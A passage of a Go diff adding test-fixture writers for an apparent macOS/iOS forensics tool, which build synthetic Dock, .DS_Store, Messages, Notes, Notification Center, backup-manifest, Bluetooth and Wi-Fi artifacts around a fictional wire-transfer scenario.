+	binary.Write(&rec, binary.BigEndian, uint32(100003)) // parent CNID
+	rec.Write(pascal(name, 64))
+	binary.Write(&rec, binary.BigEndian, uint32(200008)) // CNID
+	binary.Write(&rec, binary.BigEndian, hfs(created))
+	rec.Write(make([]byte, 8)) // creator and type codes
+	binary.Write(&rec, binary.BigEndian, []int16{-1, -1})
+	rec.Write(make([]byte, 16)) // volume attributes, filesystem ID and reserved
+
+	tag := func(t int16, value []byte) {
+		binary.Write(&rec, binary.BigEndian, t)
+		binary.Write(&rec, binary.BigEndian, uint16(len(value)))
+		rec.Write(value)
+		if len(value)%2 == 1 {
+			rec.WriteByte(0)
+		}
+	}
+	unicode := func(s string) []byte {
+		var b bytes.Buffer
+		binary.Write(&b, binary.BigEndian, uint16(len(s)))
+		for _, r := range s {
+			binary.Write(&b, binary.BigEndian, uint16(r))
+		}
+		return b.Bytes()
+	}
+	tag(2, []byte(volume+strings.Replace(path, "/", ":", -1)))
+	tag(14, unicode(name))
+	tag(15, unicode(volume))
+	tag(18, []byte(path))
+	tag(19, []byte("/"))
+	tag(-1, nil)
+
+	b := rec.Bytes()
+	binary.BigEndian.PutUint16(b[4:6], uint16(len(b)))
+	return b
+}
+
+// dock writes the Dock preferences with a kept application holding a bookmark, a folder stack and a recent application
+func dock(fp string) error {
+	tile := func(guid uint64, tileType string, data map[string]interface{}) map[string]interface{} {
+		return map[string]interface{}{"GUID": guid, "tile-type": tileType, "tile-data": data}
+	}
+	fileData := func(url string) map[string]interface{} {
+		return map[string]interface{}{"_CFURLString": url, "_CFURLStringType": uint64(15)}
+	}
+	hfs := func(t time.Time) uint64 { return uint64(t.Unix() + 2082844800) }
+	b, err := plist.Marshal(map[string]interface{}{
+		"persistent-apps": []interface{}{
+			tile(1983744224, "file-tile", map[string]interface{}{
+				"file-label":        "Safari",
+				"bundle-identifier": "com.apple.Safari",
+				"file-data":         fileData("file:///Applications/Safari.app/"),
+				"file-type":         uint64(41),
+				"file-mod-date":     hfs(time.Date(2020, 7, 15, 10, 0, 0, 0, time.UTC)),
+				"parent-mod-date":   hfs(time.Date(2020, 7, 20, 9, 30, 0, 0, time.UTC)),
+				"book":              bookmark("/Applications/Safari.app", time.Date(2019, 10, 7, 21, 0, 0, 0, time.UTC), ""),
+			}),
+		},
+		"persistent-others": []interface{}{
+			tile(1983744225, "directory-tile", map[string]interface{}{
+				"file-label": "Downloads",
+				"file-data":  fileData("file:///Users/bob/Downloads/"),
+				"file-type":  uint64(2),
+			}),
+		},
+		"recent-apps": []interface{}{
+			tile(1983744226, "file-tile", map[string]interface{}{
+				"file-label":        "Terminal",
+				"bundle-identifier": "com.apple.Terminal",
+				"file-data":         fileData("file:///System/Applications/Utilities/Terminal.app/"),
+				"file-type":         uint64(41),
+			}),
+		},
+		"show-recents": true,
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// recentItems writes the Apple menu recent items of 10.10 and earlier, bookmarks and aliases per section and the
+// recent hosts which only have a URL
+func recentItems(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"RecentApplications": map[string]interface{}{
+			"MaxAmount": uint64(10),
+			"CustomListItems": []interface{}{
+				map[string]interface{}{"Name": "Terminal.app", "Bookmark": bookmark("/Applications/Utilities/Terminal.app", time.Date(2019, 10, 7, 21, 0, 0, 0, time.UTC), "")},
+			},
+		},
+		"RecentDocuments": map[string]interface{}{
+			"MaxAmount": uint64(10),
+			"CustomListItems": []interface{}{
+				map[string]interface{}{"Name": "plan.docx", "Bookmark": bookmark("/Users/bob/Documents/plan.docx", time.Date(2020, 7, 30, 12, 0, 0, 0, time.UTC), "")},
+				map[string]interface{}{"Name": "Projects", "Alias": alias("/Users/bob/Projects", "Macintosh HD", time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC))},
+			},
+		},
+		"RecentServers": map[string]interface{}{
+			"MaxAmount": uint64(10),
+			"CustomListItems": []interface{}{
+				map[string]interface{}{"Name": "share", "Bookmark": bookmark("/Volumes/share", time.Date(2020, 7, 28, 16, 0, 0, 0, time.UTC), "")},
+			},
+		},
+		"Hosts": map[string]interface{}{
+			"Controller": "CustomListItems",
+			"CustomListItems": []interface{}{
+				map[string]interface{}{"Name": "fileserver.example.com", "URL": "smb://fileserver.example.com"},
+			},
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// quicklookIndex writes a Quick Look thumbnail cache index, the version of each file is a plist with its modification
+// date and size, one file has two thumbnails and one none
+func quicklookIndex(fp string) error {
+	version := func(modified time.Time, size uint64) (string, error) {
+		b, err := plist.Marshal(map[string]interface{}{"date": float64(modified.Unix() - 978307200), "size": size, "gen": "com.apple.qlgenerator.PDF"}, plist.BinaryFormat)
+		return fmt.Sprintf("X'%x'", b), err
+	}
+	plan, err := version(time.Date(2020, 7, 30, 12, 0, 0, 0, time.UTC), 24576)
+	if err != nil {
+		return err
+	}
+	invoice, err := version(time.Date(2020, 7, 31, 12, 0, 0, 0, time.UTC), 81920)
+	if err != nil {
+		return err
+	}
+	secret, err := version(time.Date(2020, 8, 1, 7, 0, 0, 0, time.UTC), 1048576)
+	if err != nil {
+		return err
+	}
+	// last_hit_date are Cocoa times, 617965200 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE files (folder TEXT, file_name TEXT, version BLOB, fs_id TEXT, UNIQUE (folder, file_name))`,
+		`CREATE TABLE thumbnails (file_id INTEGER, size INTEGER, width INTEGER, height INTEGER, bitspercomponent INTEGER, bitsperpixel INTEGER, bytesperrow INTEGER, bitmapinfo INTEGER, bitmapdata_location INTEGER, bitmapdata_length INTEGER, hit_count INTEGER, last_hit_date INTEGER)`,
+		`INSERT INTO files (rowid, folder, file_name, version, fs_id) VALUES (1, '/Users/bob/Documents', 'plan.docx', `+plan+`, '16777220.400009')`,
+		`INSERT INTO files (rowid, folder, file_name, version, fs_id) VALUES (2, '/Users/bob/Downloads', 'invoice.pdf', `+invoice+`, '16777220.400011')`,
+		`INSERT INTO files (rowid, folder, file_name, version, fs_id) VALUES (3, '/Volumes/USB', 'secret.zip', `+secret+`, NULL)`,
+		`INSERT INTO thumbnails VALUES (1, 64, 64, 64, 8, 32, 256, 8194, 0, 16384, 3, 617965200)`,
+		`INSERT INTO thumbnails VALUES (2, 64, 64, 64, 8, 32, 256, 8194, 16384, 16384, 1, 617967000)`,
+		`INSERT INTO thumbnails VALUES (2, 256, 256, 256, 8, 32, 1024, 8194, 32768, 262144, 1, 617967000)`,
+	)
+}
+
+// dsStoreRecord is a record of a .DS_Store, value holds the Go type of the record type
+type dsStoreRecord struct {
+	name  string
+	code  string
+	typ   string
+	value interface{}
+}
+
+// dsStore writes a .DS_Store holding records, split in two leaves under an internal node holding the middle record
+// Blocks are the allocator info at 0x800, the DSDB header at 0x20 and the nodes at 0x1000, 0x2000 and 0x3000
+func dsStore(fp string, records []dsStoreRecord) error {
+	utf16String := func(b *bytes.Buffer, s string) {
+		units := utf16.Encode([]rune(s))
+		binary.Write(b, binary.BigEndian, uint32(len(units)))
+		binary.Write(b, binary.BigEndian, units)
+	}
+	record := func(b *bytes.Buffer, r dsStoreRecord) {
+		utf16String(b, r.name)
+		b.WriteString(r.code)
+		b.WriteString(r.typ)
+		switch v := r.value.(type) {
+		case uint32:
+			binary.Write(b, binary.BigEndian, v)
+		case bool:
+			if v {
+				b.WriteByte(1)
+			} else {
+				b.WriteByte(0)
+			}
+		case uint64:
+			binary.Write(b, binary.BigEndian, v)
+		case time.Time:
+			binary.Write(b, binary.BigEndian, uint64(v.Unix()+2082844800)<<16)
+		case []byte:
+			binary.Write(b, binary.BigEndian, uint32(len(v)))
+			b.Write(v)
+		case string:
+			if r.typ == "type" {
+				b.WriteString(v)
+			} else {
+				utf16String(b, v)
+			}
+		}
+	}
+	node := func(p uint32, children []uint32, records []dsStoreRecord) []byte {
+		var b bytes.Buffer
+		binary.Write(&b, binary.BigEndian, []uint32{p, uint32(len(records))})
+		for i, r := range records {
+			if p != 0 {
+				binary.Write(&b, binary.BigEndian, children[i])
+			}
+			record(&b, r)
+		}
+		return b.Bytes()
+	}
+
+	split := len(records) / 2
+	data := make([]byte, 0x4000)
+	// DSDB: root node, levels of internal nodes, records, nodes, page size
+	var db bytes.Buffer
+	binary.Write(&db, binary.BigEndian, []uint32{2, 1, uint32(len(records)), 3, 0x1000})
+	copy(data[0x20:], db.Bytes())
+	copy(data[0x1000:], node(4, []uint32{3}, records[split:split+1]))
+	copy(data[0x2000:], node(0, nil, records[:split]))
+	copy(data[0x3000:], node(0, nil, records[split+1:]))
+
+	var root bytes.Buffer
+	addresses := make([]uint32, 256)
+	copy(addresses, []uint32{0x800 | 11, 0x20 | 5, 0x1000 | 12, 0x2000 | 12, 0x3000 | 12})
+	binary.Write(&root, binary.BigEndian, []uint32{5, 0})
+	binary.Write(&root, binary.BigEndian, addresses)
+	binary.Write(&root, binary.BigEndian, uint32(1))
+	root.WriteByte(4)
+	root.WriteString("DSDB")
+	binary.Write(&root, binary.BigEndian, uint32(1))
+	binary.Write(&root, binary.BigEndian, make([]uint32, 32)) // empty free lists
+	copy(data[0x800:], root.Bytes())
+
+	// the header takes the first 32 bytes: magic, root block offset, size and offset again
+	copy(data, "Bud1")
+	binary.BigEndian.PutUint32(data[4:], 0x800)
+	binary.BigEndian.PutUint32(data[8:], 0x800)
+	binary.BigEndian.PutUint32(data[12:], 0x800)
+	return ioutil.WriteFile(fp, append([]byte{0, 0, 0, 1}, data...), 0644)
+}
+
+// iconLocation is the blob of an Iloc record, the x and y of the icon followed by 0xffffffffffff0000
+func iconLocation(x, y uint32) []byte {
+	b := make([]byte, 16)
+	binary.BigEndian.PutUint32(b, x)
+	binary.BigEndian.PutUint32(b[4:], y)
+	copy(b[8:], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0})
+	return b
+}
+
+// documentsDSStore writes the .DS_Store of a folder with a comment, sizes and the icon of a file no longer there
+func documentsDSStore(fp string) error {
+	return dsStore(fp, []dsStoreRecord{
+		{".", "vSrn", "long", uint32(1)},
+		{"notes.txt", "cmmt", "ustr", "call back about the wire transfer"},
+		{"notes.txt", "Iloc", "blob", iconLocation(64, 48)},
+		{"plan.docx", "Iloc", "blob", iconLocation(160, 48)},
+		{"plan.docx", "logS", "comp", uint64(24576)},
+		{"plan.docx", "modD", "dutc", time.Date(2020, 7, 30, 12, 0, 0, 0, time.UTC)},
+		{"secret.zip", "Iloc", "blob", iconLocation(256, 48)},
+		{"secret.zip", "ph1S", "comp", uint64(1048576)},
+	})
+}
+
+// trashDSStore writes the .DS_Store of the Trash, which remembers where trashed files were put back from
+func trashDSStore(fp string) error {
+	return dsStore(fp, []dsStoreRecord{
+		{"invoice.pdf", "ptbL", "ustr", "Users/bob/Downloads/"},
+		{"invoice.pdf", "ptbN", "ustr", "invoice.pdf"},
+		{"report.key", "ptbL", "ustr", "Users/bob/Desktop/"},
+	})
+}
+
+// typedStream archives an NSAttributedString of s as NSArchiver does for message.attributedBody
+func typedStream(s string) []byte {
+	b := []byte("\x04\x0bstreamtyped\x81\xe8\x03\x84\x01@\x84\x84\x84\x12NSAttributedString\x00\x84\x84\x08NSObject\x00\x85\x92\x84\x84\x84\x08NSString\x01\x94\x84\x01+")
+	b = append(b, byte(len(s)))
+	b = append(b, s...)
+	return append(b, 0x86, 0x84, 0x02, 'i', 'I', 0x01)
+}
+
+// chatDB writes a Messages database with a message holding its text, one holding it only in a typedstream
+// attributedBody and one in a keyed archive attributedBody with an attachment, dates are Cocoa nanoseconds
+func chatDB(fp string) error {
+	a := newArchiver()
+	keyed, err := a.bytes(a.object("NSAttributedString", []string{"NSObject"}, "NSString", a.mutableString("Invoice attached, wire to the new account")))
+	if err != nil {
+		return err
+	}
+	// 617965200000000000 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE message (ROWID INTEGER PRIMARY KEY AUTOINCREMENT, guid TEXT UNIQUE NOT NULL, text TEXT, handle_id INTEGER DEFAULT 0, service TEXT, date INTEGER, date_read INTEGER, date_delivered INTEGER, is_from_me INTEGER DEFAULT 0, attributedBody BLOB)`,
+		`CREATE TABLE handle (ROWID INTEGER PRIMARY KEY AUTOINCREMENT UNIQUE, id TEXT NOT NULL, service TEXT NOT NULL)`,
+		`CREATE TABLE chat (ROWID INTEGER PRIMARY KEY AUTOINCREMENT, guid TEXT UNIQUE NOT NULL, chat_identifier TEXT, service_name TEXT, display_name TEXT)`,
+		`CREATE TABLE chat_message_join (chat_id INTEGER, message_id INTEGER, PRIMARY KEY (chat_id, message_id))`,
+		`CREATE TABLE attachment (ROWID INTEGER PRIMARY KEY AUTOINCREMENT, guid TEXT UNIQUE NOT NULL, created_date INTEGER DEFAULT 0, filename TEXT, mime_type TEXT, transfer_name TEXT, total_bytes INTEGER DEFAULT 0)`,
+		`CREATE TABLE message_attachment_join (message_id INTEGER, attachment_id INTEGER, UNIQUE (message_id, attachment_id))`,
+		`INSERT INTO handle VALUES (1, '+15555550100', 'iMessage')`,
+		`INSERT INTO handle VALUES (2, 'alice@example.com', 'iMessage')`,
+		`INSERT INTO chat VALUES (1, 'iMessage;-;+15555550100', '+15555550100', 'iMessage', '')`,
+		`INSERT INTO chat VALUES (2, 'iMessage;+;chat123456', 'chat123456', 'iMessage', 'Finance')`,
+		`INSERT INTO message VALUES (1, '6F1E2D3C-0000-4000-8000-000000000001', 'Did you get the invoice?', 1, 'iMessage', 617965200000000000, 617965260000000000, 617965201000000000, 0, NULL)`,
+		fmt.Sprintf(`INSERT INTO message VALUES (2, '6F1E2D3C-0000-4000-8000-000000000002', NULL, 1, 'iMessage', 617965320000000000, 0, 617965321000000000, 1, X'%x')`, typedStream("Yes, paying it today")),
+		fmt.Sprintf(`INSERT INTO message VALUES (3, '6F1E2D3C-0000-4000-8000-000000000003', NULL, 2, 'iMessage', 617967000000000000, 617967100000000000, 617967001000000000, 0, X'%x')`, keyed),
+		`INSERT INTO chat_message_join VALUES (1, 1)`,
+		`INSERT INTO chat_message_join VALUES (1, 2)`,
+		`INSERT INTO chat_message_join VALUES (2, 3)`,
+		`INSERT INTO attachment VALUES (1, 'at_0_6F1E2D3C-0000-4000-8000-000000000003', 617967000000000000, '~/Library/Messages/Attachments/3a/10/at_0_6F1E2D3C/invoice.pdf', 'application/pdf', 'invoice.pdf', 81920)`,
+		`INSERT INTO message_attachment_join VALUES (3, 1)`,
+	)
+}
+
+// protobuf returns the length delimited field num holding b
+func protobuf(num uint64, b []byte) []byte {
+	buf := make([]byte, 2*binary.MaxVarintLen64)
+	n := binary.PutUvarint(buf, num<<3|2)
+	n += binary.PutUvarint(buf[n:], uint64(len(b)))
+	return append(buf[:n], b...)
+}
+
+// noteBody returns a gzipped NoteStoreProto holding text, with the version field and an attribute run around it
+func noteBody(text string) (string, error) {
+	note := append([]byte{0x08, 0x00}, protobuf(2, []byte(text))...)
+	note = append(note, protobuf(5, []byte{0x08, byte(len(text))})...)
+	var buf bytes.Buffer
+	w := gzip.NewWriter(&buf)
+	if _, err := w.Write(append([]byte{0x08, 0x00}, protobuf(2, append([]byte{0x08, 0x00, 0x10, 0x00}, protobuf(3, note)...))...)); err != nil {
+		return "", err
+	}
+	if err := w.Close(); err != nil {
+		return "", err
+	}
+	return fmt.Sprintf("X'%x'", buf.Bytes()), nil
+}
+
+// noteStore writes a Notes database of 10.15 with a note, a password protected note and a note in Recently Deleted,
+// folders and notes share ZICCLOUDSYNCINGOBJECT
+func noteStore(fp string) error {
+	plan, err := noteBody("Wire plan\nSend 9,500 to the new account on Monday")
+	if err != nil {
+		return err
+	}
+	deleted, err := noteBody("Old account numbers")
+	if err != nil {
+		return err
+	}
+	// Cocoa times, 617965200 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE ZICCLOUDSYNCINGOBJECT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, ZIDENTIFIER VARCHAR, ZFOLDER INTEGER, ZISPASSWORDPROTECTED INTEGER, ZNOTEDATA INTEGER, ZCREATIONDATE1 TIMESTAMP, ZCREATIONDATE3 TIMESTAMP, ZMODIFICATIONDATE1 TIMESTAMP, ZSNIPPET VARCHAR, ZTITLE1 VARCHAR, ZTITLE2 VARCHAR)`,
+		`CREATE TABLE ZICNOTEDATA (Z_PK INTEGER PRIMARY KEY, ZNOTE INTEGER, ZDATA BLOB)`,
+		`INSERT INTO ZICCLOUDSYNCINGOBJECT (Z_PK, Z_ENT, ZIDENTIFIER, ZTITLE2) VALUES (1, 14, 'DefaultFolder-CloudKit', 'Notes')`,
+		`INSERT INTO ZICCLOUDSYNCINGOBJECT (Z_PK, Z_ENT, ZIDENTIFIER, ZTITLE2) VALUES (2, 14, 'TrashFolder-CloudKit', 'Recently Deleted')`,
+		`INSERT INTO ZICCLOUDSYNCINGOBJECT VALUES (3, 11, '4B5C6D7E-0000-4000-8000-000000000001', 1, 0, 1, NULL, 617880000, 617965200, 'Send 9,500 to the new account on Monday', 'Wire plan', NULL)`,
+		`INSERT INTO ZICCLOUDSYNCINGOBJECT VALUES (4, 11, '4B5C6D7E-0000-4000-8000-000000000002', 1, 1, 2, NULL, 617881000, 617881000, '', 'Passwords', NULL)`,
+		`INSERT INTO ZICCLOUDSYNCINGOBJECT VALUES (5, 11, '4B5C6D7E-0000-4000-8000-000000000003', 2, 0, 3, NULL, 615000000, 617967000.5, 'Old account numbers', 'Old account numbers', NULL)`,
+		`INSERT INTO ZICNOTEDATA VALUES (1, 3, `+plan+`)`,
+		`INSERT INTO ZICNOTEDATA VALUES (2, 4, X'0102030405060708')`,
+		`INSERT INTO ZICNOTEDATA VALUES (3, 5, `+deleted+`)`,
+	)
+}
+
+// notificationCenterDB writes a Notification Center database with a message preview, a 2FA code and a record whose
+// app is only in its data
+func notificationCenterDB(fp string) error {
+	record := func(app string, req map[string]interface{}) (string, error) {
+		b, err := plist.Marshal(map[string]interface{}{"app": app, "date": float64(617965200), "req": req}, plist.BinaryFormat)
+		return fmt.Sprintf("X'%x'", b), err
+	}
+	message, err := record("com.apple.MobileSMS", map[string]interface{}{"titl": "Alice", "body": "Did you get the invoice?", "cate": "MessageExtension", "iden": "0A1B2C3D"})
+	if err != nil {
+		return err
+	}
+	code, err := record("com.apple.MobileSMS", map[string]interface{}{"titl": "+15555550199", "subt": "Bank", "body": "Your verification code is 482913", "iden": "0A1B2C3E"})
+	if err != nil {
+		return err
+	}
+	update, err := record("com.example.Updater", map[string]interface{}{"titl": "Update ready", "body": "Restart to install"})
+	if err != nil {
+		return err
+	}
+	// delivered_date are Cocoa times, 617965200 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE app (app_id INTEGER PRIMARY KEY, identifier VARCHAR, badge INTEGER NULL)`,
+		`CREATE TABLE record (rec_id INTEGER PRIMARY KEY, app_id INTEGER, uuid BLOB, data BLOB, request_date REAL, request_last_date REAL, delivered_date REAL, presented Bool, style INTEGER, snooze_fire_date REAL)`,
+		`INSERT INTO app VALUES (1, 'com.apple.MobileSMS', 2)`,
+		`INSERT INTO record VALUES (1, 1, X'0A1B2C3D00004000800000000000000A', `+message+`, 617965200, 617965200, 617965200.5, 1, 1, 0)`,
+		`INSERT INTO record VALUES (2, 1, X'0A1B2C3D00004000800000000000000B', `+code+`, 617967000, 617967000, 617967000, 0, 1, 0)`,
+		`INSERT INTO record VALUES (3, 7, NULL, `+update+`, 617970600, 617970600, 617970600, 1, 2, 0)`,
+	)
+}
+
+// manifestPlist writes the Manifest.plist of a backup
+func manifestPlist(udid, name string, encrypted bool, date time.Time) func(string) error {
+	return func(fp string) error {
+		b, err := plist.Marshal(map[string]interface{}{
+			"IsEncrypted":    encrypted,
+			"WasPasscodeSet": true,
+			"Date":           date,
+			"Version":        "10.0",
+			"Applications": map[string]interface{}{
+				"com.apple.mobilenotes": map[string]interface{}{"CFBundleIdentifier": "com.apple.mobilenotes"},
+				"net.whatsapp.WhatsApp": map[string]interface{}{"CFBundleIdentifier": "net.whatsapp.WhatsApp"},
+			},
+			"Lockdown": map[string]interface{}{"UniqueDeviceID": udid, "DeviceName": name},
+		}, plist.BinaryFormat)
+		if err != nil {
+			return err
+		}
+		return ioutil.WriteFile(fp, b, 0644)
+	}
+}
+
+// manifestDB writes the Manifest.db of an unencrypted backup with a domain directory and two files, the file column
+// is an MBFile archived by NSKeyedArchiver with Unix dates
+func manifestDB(fp string) error {
+	mbfile := func(path string, size uint64, mode uint64, birth, modified time.Time) (string, error) {
+		a := newArchiver()
+		b, err := a.bytes(a.object("MBFile", []string{"NSObject"},
+			"RelativePath", path, "Size", size, "Mode", mode, "Flags", uint64(0), "InodeNumber", uint64(0),
+			"UserID", uint64(501), "GroupID", uint64(501), "ProtectionClass", uint64(3),
+			"Birth", uint64(birth.Unix()), "LastModified", uint64(modified.Unix()), "LastStatusChange", uint64(modified.Unix())))
+		return fmt.Sprintf("X'%x'", b), err
+	}
+	dir, err := mbfile("Library/SMS", 0, 0x41ed, time.Date(2019, 11, 2, 10, 0, 0, 0, time.UTC), time.Date(2020, 8, 1, 8, 0, 0, 0, time.UTC))
+	if err != nil {
+		return err
+	}
+	sms, err := mbfile("Library/SMS/sms.db", 2408448, 0x81a4, time.Date(2019, 11, 2, 10, 0, 0, 0, time.UTC), time.Date(2020, 8, 1, 8, 10, 0, 0, time.UTC))
+	if err != nil {
+		return err
+	}
+	photo, err := mbfile("Media/DCIM/100APPLE/IMG_0042.HEIC", 1843200, 0x81a4, time.Date(2020, 7, 31, 17, 5, 0, 0, time.UTC), time.Date(2020, 7, 31, 17, 5, 0, 0, time.UTC))
+	if err != nil {
+		return err
+	}
+	return sqlite(fp,
+		`CREATE TABLE Files (fileID TEXT PRIMARY KEY, domain TEXT, relativePath TEXT, flags INTEGER, file BLOB)`,
+		`CREATE TABLE Properties (key TEXT PRIMARY KEY, value BLOB)`,
+		`INSERT INTO Files VALUES ('2cf8f8c3f5ad2cce06d15f1b4c6bfb9ec3c2cf04', 'HomeDomain', 'Library/SMS', 2, `+dir+`)`,
+		`INSERT INTO Files VALUES ('3d0d7e5fb2ce288813306e4d4636395e047a3d28', 'HomeDomain', 'Library/SMS/sms.db', 1, `+sms+`)`,
+		`INSERT INTO Files VALUES ('b1f8a9a3e4c1d2c3b4a5968778695a4b3c2d1e0f', 'CameraRollDomain', 'Media/DCIM/100APPLE/IMG_0042.HEIC', 1, `+photo+`)`,
+	)
+}
+
+// iPodPreferences writes the com.apple.iPod.plist of a user with the devices connected to the Mac
+func iPodPreferences(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"Devices": map[string]interface{}{
+			"0A1B2C3D4E5F6071": map[string]interface{}{
+				"Device Class":            "iPhone",
+				"Product Type":            "iPhone12,1",
+				"Firmware Version String": "13.6",
+				"Build Version":           "17G68",
+				"Serial Number":           "F2LZK1ABN72J",
+				"IMEI":                    "356789101234567",
+				"MEID":                    "35678910123456",
+				"Use Count":               uint64(14),
+				"Connected":               time.Date(2020, 8, 1, 8, 12, 0, 0, time.UTC),
+				"ID":                      "0A1B2C3D4E5F6071",
+			},
+			"1F2E3D4C5B6A7980": map[string]interface{}{
+				"Device Class":            "iPad",
+				"Product Type":            "iPad7,5",
+				"Firmware Version String": "12.4.8",
+				"Serial Number":           "DMPXK2ABJF8J",
+				"Use Count":               uint64(3),
+				"Connected":               time.Date(2020, 7, 15, 18, 30, 0, 0, time.UTC),
+				"ID":                      "1F2E3D4C5B6A7980",
+			},
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// bluetoothPreferences writes a com.apple.Bluetooth.plist with a paired keyboard, a phone seen nearby and a paired
+// device missing from the cache
+func bluetoothPreferences(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"ControllerPowerState": uint64(1),
+		"PairedDevices":        []interface{}{"a4-83-e7-12-34-56", "00-1b-66-aa-bb-cc"},
+		"HIDDevices":           []interface{}{"a4-83-e7-12-34-56"},
+		"DeviceCache": map[string]interface{}{
+			"a4-83-e7-12-34-56": map[string]interface{}{
+				"Name":               "Magic Keyboard",
+				"VendorID":           uint64(0x4c),
+				"ProductID":          uint64(0x267),
+				"ClassOfDevice":      uint64(0x2540),
+				"Manufacturer":       uint64(15),
+				"LastNameUpdate":     time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC),
+				"LastServicesUpdate": time.Date(2020, 7, 31, 17, 0, 0, 0, time.UTC),
+			},
+			"4c-57-ca-01-02-03": map[string]interface{}{
+				"displayName":       "Alice's iPhone",
+				"ClassOfDevice":     uint64(0x7a020c),
+				"LastInquiryUpdate": time.Date(2020, 8, 1, 9, 5, 0, 0, time.UTC),
+			},
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// mobileBluetoothDevices writes the paired devices of 12 and later, LastSeenTime is Unix seconds
+func mobileBluetoothDevices(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"F0:B3:EC:0A:0B:0C": map[string]interface{}{
+			"Name":         "Bob's AirPods Pro",
+			"DefaultName":  "AirPods Pro",
+			"VID":          uint64(0x4c),
+			"PID":          uint64(0x200e),
+			"LastSeenTime": uint64(time.Date(2020, 8, 1, 8, 30, 0, 0, time.UTC).Unix()),
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// desktopVolumesFinderPreferences writes Finder preferences with the desktop icon positions of three volumes, keyed
+// by name and creation date as a hex float and, in older versions, as the bits of a double
+func desktopVolumesFinderPreferences(fp string) error {
+	cocoa := func(t time.Time) float64 {
+		return float64(t.Unix() - 978307200)
+	}
+	position := func(x float64) map[string]interface{} {
+		return map[string]interface{}{"AnchorRelativeTo": uint64(1), "ScreenID": uint64(0), "xRelative": x, "yRelative": float64(-30)}
+	}
+	b, err := plist.Marshal(map[string]interface{}{
+		"FXDesktopVolumePositions": map[string]interface{}{
+			"Macintosh HD_" + strconv.FormatFloat(cocoa(time.Date(2019, 11, 2, 9, 0, 0, 0, time.UTC)), 'x', -1, 64):  position(-100),
+			"SANDISK_32GB_" + strconv.FormatFloat(cocoa(time.Date(2020, 7, 31, 16, 0, 0, 0, time.UTC)), 'x', -1, 64): position(-200),
+			fmt.Sprintf("Backup_0x%016x", math.Float64bits(cocoa(time.Date(2018, 3, 5, 12, 30, 0, 0, time.UTC)))):    position(-300),
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// rotatedSystemLog writes a rotated system.log with an earlier attach of the USB drive in the current log
+func rotatedSystemLog(fp string) error {
+	var buf bytes.Buffer
+	w := gzip.NewWriter(&buf)
+	lines := "Jul 31 15:58:02 bobs-mac kernel[0]: USBMSC Identifier (non-unique): 4C530001230712117383 0x781 0x5581 0x100, 3\n" +
+		"Jul 31 15:58:03 bobs-mac kernel[0]: disk2s1: no valid HFS+ volume header\n"
+	if _, err := w.Write([]byte(lines)); err != nil {
+		return err
+	}
+	if err := w.Close(); err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, buf.Bytes(), 0644)
+}
+
+// wifiKnownNetworks writes the known networks of 11 and later, one network keeps its access points under
+// __OSSpecific__
+func wifiKnownNetworks(fp string) error {
+	bss := func(bssid string, channel uint64, at time.Time) map[string]interface{} {
+		return map[string]interface{}{"BSSID": bssid, "Channel": channel, "ChannelFlags": uint64(10), "LastAssociatedAt": at}
+	}
+	b, err := plist.Marshal(map[string]interface{}{
+		"wifi.network.ssid.Cafe Guest": map[string]interface{}{
+			"SSID":                   []byte("Cafe Guest"),
+			"SupportedSecurityTypes": "Open",
+			"AddedAt":                time.Date(2020, 8, 1, 8, 54, 30, 0, time.UTC),
+			"JoinedByUserAt":         time.Date(2020, 8, 1, 8, 54, 40, 0, time.UTC),
+			"UpdatedAt":              time.Date(2020, 8, 1, 8, 54, 40, 0, time.UTC),
+			"CaptiveProfile":         map[string]interface{}{"CaptiveNetwork": true},
+			"__OSSpecific__": map[string]interface{}{
+				"TemporarilyDisabled": false,
+				"BSSList":             []interface{}{bss("00:1b:66:aa:bb:cc", 11, time.Date(2020, 8, 1, 9, 30, 0, 0, time.UTC))},
+			},
+		},
+		"wifi.network.ssid.CorpNet": map[string]interface{}{
+			"SSID":                   []byte("CorpNet"),
+			"SupportedSecurityTypes": "WPA2 Enterprise",
+			"AddedAt":                time.Date(2019, 11, 4, 9, 0, 0, 0, time.UTC),
+			"JoinedBySystemAt":       time.Date(2020, 7, 31, 8, 30, 0, 0, time.UTC),
+			"BSSList": []interface{}{
+				bss("f0:9f:c2:01:02:03", 36, time.Date(2020, 7, 31, 8, 30, 0, 0, time.UTC)),
+				bss("f0:9f:c2:01:02:04", 149, time.Date(2020, 7, 30, 16, 0, 0, 0, time.UTC)),
+			},
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// netusage writes a netusage.sqlite with the live usage of three processes, one without usage rows
+func netusage(fp string) error {
+	// Cocoa times, 617965200 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE ZPROCESS (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZFIRSTTIMESTAMP TIMESTAMP, ZTIMESTAMP TIMESTAMP, ZBUNDLENAME VARCHAR, ZPROCNAME VARCHAR)`,
